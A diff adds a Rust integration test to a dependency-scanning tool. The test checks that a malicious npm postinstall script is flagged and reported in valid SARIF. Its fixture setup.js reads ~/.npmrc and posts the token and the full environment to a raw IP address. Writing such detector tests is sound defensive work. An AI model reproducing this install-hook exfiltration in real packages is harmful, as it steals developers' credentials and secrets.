@@ -1167,3 +1167,100 @@ fn example_policy_violations_project_is_denied() {
             .all(|v| v["check"] == "release-age-unknown")
     );
 }
+
+/// An installed tree (no lockfile) whose `colors-helper` has a postinstall that posts
+/// `~/.npmrc` to a raw IP: the analysis finding, the install-script check and the SARIF
+/// related locations (the package's files) all show up, and the SARIF still validates.
+#[test]
+fn code_findings_in_sarif_with_package_file_locations() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    let write = |path: &str, text: &str| {
+        let path = root.join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    };
+    write(
+        "package.json",
+        r#"{"name":"app","version":"1.0.0","dependencies":{"colors-helper":"1.0.1"}}"#,
+    );
+    write(
+        "node_modules/colors-helper/package.json",
+        "{\n  \"name\": \"colors-helper\",\n  \"version\": \"1.0.1\",\n  \"main\": \"index.js\",\n  \"scripts\": { \"postinstall\": \"node setup.js\" }\n}\n",
+    );
+    write(
+        "node_modules/colors-helper/index.js",
+        "module.exports = (s) => s;\n",
+    );
+    write(
+        "node_modules/colors-helper/setup.js",
+        "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\n\
+         const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
+         const req = https.request({ hostname: '45.61.12.9', path: '/c', method: 'POST' });\n\
+         req.write(JSON.stringify({ token, env: process.env }));\nreq.end();\n",
+    );
+    write("bulwark.toml", "[install-scripts]\nlevel = \"deny\"\n");
+    let sarif_path = root.join("out.sarif");
+    let output = Command::new(env!("CARGO_BIN_EXE_bulwark"))
+        .arg("scan")
+        .arg(root)
+        .args([
+            "--no-db",
+            "--offline",
+            "--fail-on",
+            "never",
+            "--format",
+            "sarif",
+        ])
+        .arg("--cache")
+        .arg(root.join("analysis-cache.sqlite3"))
+        .arg("-o")
+        .arg(&sarif_path)
+        .output()
+        .unwrap();
+    assert_eq!(
+        output.status.code(),
+        Some(1),
+        "malicious code is deny by default: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let log: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&sarif_path).unwrap()).unwrap();
+    let results = log["runs"][0]["results"].as_array().unwrap();
+    let code = results
+        .iter()
+        .find(|r| r["ruleId"] == "malicious-code")
+        .unwrap_or_else(|| panic!("{log:#}"));
+    let related = code["relatedLocations"].as_array().unwrap();
+    assert!(
+        related
+            .iter()
+            .any(|l| l["physicalLocation"]["artifactLocation"]["uri"]
+                == "node_modules/colors-helper/setup.js"),
+        "{code:#}"
+    );
+    assert!(
+        results
+            .iter()
+            .any(|r| r["ruleId"] == "install-script-not-allowed"),
+        "{log:#}"
+    );
+    assert!(
+        !results.iter().any(|r| r["ruleId"] == "malicious-package"),
+        "a finding is reported once, not again as its policy violation"
+    );
+    let schema = repo_root().join(
+        ".tools/schemas/node_modules/@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json",
+    );
+    let validation = Command::new("python3")
+        .arg(repo_root().join("scripts/validate-json-schema.py"))
+        .arg(&schema)
+        .arg(&sarif_path)
+        .output()
+        .expect("run python3");
+    assert!(
+        validation.status.success(),
+        "SARIF does not validate:\n{}",
+        String::from_utf8_lossy(&validation.stderr)
+    );
+}
